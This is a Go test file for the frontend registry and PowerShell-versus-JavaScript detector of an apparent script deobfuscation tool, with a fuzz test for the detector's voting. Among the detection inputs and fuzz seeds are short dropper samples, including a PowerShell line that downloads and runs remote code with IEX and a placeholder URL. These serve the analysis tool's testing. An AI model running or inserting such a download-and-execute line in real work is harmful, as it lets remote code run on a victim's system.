package frontend

import (
	"context"
	"errors"
	"reflect"
	"strings"
	"testing"

	"github.com/invoke-deobfuscation/invokedeob/internal/limits"
	"github.com/invoke-deobfuscation/invokedeob/internal/pipeline"
)

// stubFrontend is a minimal Frontend for registry tests.
type stubFrontend struct {
	name string
}

func (f stubFrontend) Name() string                         { return f.name }
func (f stubFrontend) Tokenize(src string) (any, error)     { return []string{src}, nil }
func (f stubFrontend) Parse(src string, _ any) (any, error) { return &src, nil }
func (f stubFrontend) Evaluate(context.Context, string, map[string]any, EvalBudget) (EvalResult, error) {
	return EvalResult{}, ErrUnsupported
}
func (f stubFrontend) CopyValue(v any) (any, bool)        { return v, true }
func (f stubFrontend) ValueSize(v any) int                { return 0 }
func (f stubFrontend) DefaultBlocklist() map[string]bool  { return nil }
func (f stubFrontend) LayerPasses(r *Run) []pipeline.Pass { return nil }
func (f stubFrontend) FinalPasses(r *Run) []pipeline.Pass { return nil }

func TestRegisterAndGet(t *testing.T) {
	fe := stubFrontend{name: "stublang"}
	Register(fe)
	got, err := Get("stublang")
	if err != nil {
		t.Fatal(err)
	}
	if got.Name() != "stublang" {
		t.Errorf("Get returned %q", got.Name())
	}
	// Case-insensitive lookup.
	if _, err := Get("  StubLang "); err != nil {
		t.Errorf("case/space-normalized lookup failed: %v", err)
	}
	found := false
	for _, n := range Names() {
		if n == "stublang" {
			found = true
		}
	}
	if !found {
		t.Errorf("Names() = %v, missing stublang", Names())
	}
}

func TestDuplicateRegistrationPanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("duplicate registration did not panic")
		}
	}()
	Register(stubFrontend{name: "duplang"})
	Register(stubFrontend{name: "duplang"})
}

func TestGetUnknownWrapsErrBadLang(t *testing.T) {
	_, err := Get("cobol")
	if err == nil {
		t.Fatal("unknown language resolved")
	}
	if !errors.Is(err, limits.ErrBadLang) {
		t.Errorf("err = %v, want ErrBadLang in chain", err)
	}
	if !strings.Contains(err.Error(), "cobol") {
		t.Errorf("error does not name the offending language: %v", err)
	}
}

func TestNormalizeAliases(t *testing.T) {
	tests := map[string]string{
		"ps":           "powershell",
		"PS1":          "powershell",
		"pwsh":         "powershell",
		" PowerShell ": "powershell",
		"js":           "javascript",
		"ECMAScript":   "javascript",
		"javascript":   "javascript",
		"unknown":      "unknown",
	}
	for in, want := range tests {
		if got := Normalize(in); got != want {
			t.Errorf("Normalize(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestDetect(t *testing.T) {
	tests := []struct {
		name, src, want string
	}{
		{"empty defaults to powershell", "", "powershell"},
		{"node shebang", "#!/usr/bin/env node\n1+1", "javascript"},
		{"pwsh shebang", "#!/usr/bin/env pwsh\nWrite-Host hi", "powershell"},
		{"bom then shebang", "\uFEFF#!/usr/bin/env node\nx", "javascript"},
		{"powershell idioms", "$a = 'x'; Write-Host $a -join ','", "powershell"},
		{"javascript idioms", "var x = String.fromCharCode(104); console.log(x.split(''))", "javascript"},
		{"js dropper", "eval(unescape('%68%69')); document.write(atob('aGk='))", "javascript"},
		{"ps dropper", "IEX (New-Object Net.WebClient).DownloadString('http://x')", "powershell"},
		{"ambiguous defaults to powershell", "hello world", "powershell"},
		// Mixed signals: PowerShell variables plus one JS-ish token still
		// lean PowerShell (js must win strictly).
		{"mixed leans powershell", "$v = 'function(' + $x -join ''", "powershell"},
	}
	for _, tt := range tests {
		if got := Detect(tt.src); got != tt.want {
			t.Errorf("%s: Detect = %q, want %q", tt.name, got, tt.want)
		}
	}
	// The vote stops once the signals left cannot change the outcome.
	stops := []struct {
		name, src string
		js        bool
		tried     int
	}{
		// $, ticking, -join and [char] give PowerShell 4; after `=>` and
		// .join( miss, JavaScript's 4 left can at best tie.
		{"powershell decided early", "$x = [char]105 -join ''; i`ex $x", false, 6},
		// =>, .split( and String.fromCharCode give JavaScript 3, more
		// than PowerShell's 2 left after four misses.
		{"javascript decided early", "const f = (a) => String.fromCharCode(a).split('')", true, 7},
		// 2-2: $ and ticking against => and .split(. Once the last
		// JavaScript signal misses, a tie is certain and stays
		// PowerShell without matching param( or the cmdlet names.
		{"tie stays powershell", "$x = 'a'.split(',') => `t", false, 10},
	}
	for _, tt := range stops {
		js, tried := vote(tt.src)
		if js != tt.js || tried != tt.tried {
			t.Errorf("%s: vote = (js %v, %d signals tried), want (js %v, %d)", tt.name, js, tried, tt.js, tt.tried)
		}
		if js != fullVote(tt.src) {
			t.Errorf("%s: vote disagrees with the full count", tt.name)
		}
	}
	ps, js := 0, 0
	for _, s := range signals {
		if s.js {
			js++
		} else {
			ps++
		}
	}
	if ps != 6 || js != 6 {
		t.Errorf("vote has %d PowerShell and %d JavaScript signals, want 6 and 6", ps, js)
	}
	// The special-character style reaches three \b-led signals, and
	// holds none of their literals, so no \b-led regexp runs.
	special := specialCharText()
	if js, tried := vote(special); js || tried != 9 {
		t.Errorf("special-character text: vote = (js %v, %d signals tried), want (js false, 9)", js, tried)
	}
	for _, s := range signals {
		for _, lit := range s.lits {
			if strings.Contains(special, lit) {
				t.Errorf("special-character text holds %q", lit)
			}
		}
	}
	// Oversize input: only the window is scanned (no crash, a result).
	big := strings.Repeat(" ", detectWindow) + "var x = String.fromCharCode(1)"
	if got := Detect(big); got != "powershell" {
		t.Errorf("signals beyond the window changed the vote: %q", got)
	}
}

// fullVote is the vote without the early stop, kept as the reference:
// every signal is matched and counted, and JavaScript must win
// strictly.
func fullVote(src string) bool {
	ps, js := 0, 0
	for _, s := range signals {
		if !s.re.MatchString(src) {
			continue
		}
		if s.js {
			js++
		} else {
			ps++
		}
	}
	return js > ps
}

// specialCharText is a 64 KiB script in the special-character style,
// where every character is computed from punctuation and a cast.
func specialCharText() string {
	const piece = "[char](('!!'+'!!').Length*25+4)+"
	return strings.Repeat(piece, detectWindow/len(piece)+1)[:detectWindow]
}

// FuzzDetect checks that Detect's early-stopping vote always agrees
// with the full twelve-signal count, and that every signal's
// required-literal skip agrees with its regexp.
func FuzzDetect(f *testing.F) {
	for _, s := range []string{
		"",
		"$a = 'x'; Write-Host $a -join ','",
		"var x = String.fromCharCode(104); console.log(x.split(''))",
		"eval(unescape('%68%69')); document.write(atob('aGk='))",
		"IEX (New-Object Net.WebClient).DownloadString('http://x')",
		"$v = 'function(' + $x -join ''",
		"$x = 'a'.split(',') => `t",
		"function(a){ return [char]a }; param($p) => 1",
		// A required literal without a match.
		"functionx (",
		"String.fromCharCodeX",
		"a.joinx(",
		"vars = 1",
		specialCharText(),
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		js, tried := vote(src)
		if want := fullVote(src); js != want {
			t.Fatalf("vote(%q) = js %v after %d signals, the full count says js %v", src, js, tried, want)
		}
		for _, s := range signals {
			if got, want := s.match(src), s.re.MatchString(src); got != want {
				t.Fatalf("signal %s on %q: match = %v, regexp = %v", s.re, src, got, want)
			}
		}
	})
}

// TestStatsAddSumsEveryField guards Add against a Stats field it does
// not fold: every counter and duration of two added runs sums, and
// TimedOut holds if either run timed out.
func TestStatsAddSumsEveryField(t *testing.T) {
	var one Stats
	v := reflect.ValueOf(&one).Elem()
	for i := 0; i < v.NumField(); i++ {
		switch f := v.Field(i); f.Kind() {
		case reflect.Int, reflect.Int64:
			f.SetInt(int64(i + 1))
		case reflect.Bool:
			f.SetBool(true)
		default:
			t.Fatalf("Stats.%s: kind %s has no rule here", v.Type().Field(i).Name, f.Kind())
		}
	}
	var sum Stats
	sum.Add(one)
	sum.Add(Stats{})
	sum.Add(one)
	got := reflect.ValueOf(sum)
	for i := 0; i < got.NumField(); i++ {
		name := v.Type().Field(i).Name
		switch f := got.Field(i); f.Kind() {
		case reflect.Bool:
			if !f.Bool() {
				t.Errorf("Stats.%s = false after adding a run that set it", name)
			}
		default:
			if f.Int() != 2*int64(i+1) {
				t.Errorf("Stats.%s = %d, want %d", name, f.Int(), 2*(i+1))
			}
		}
	}
}
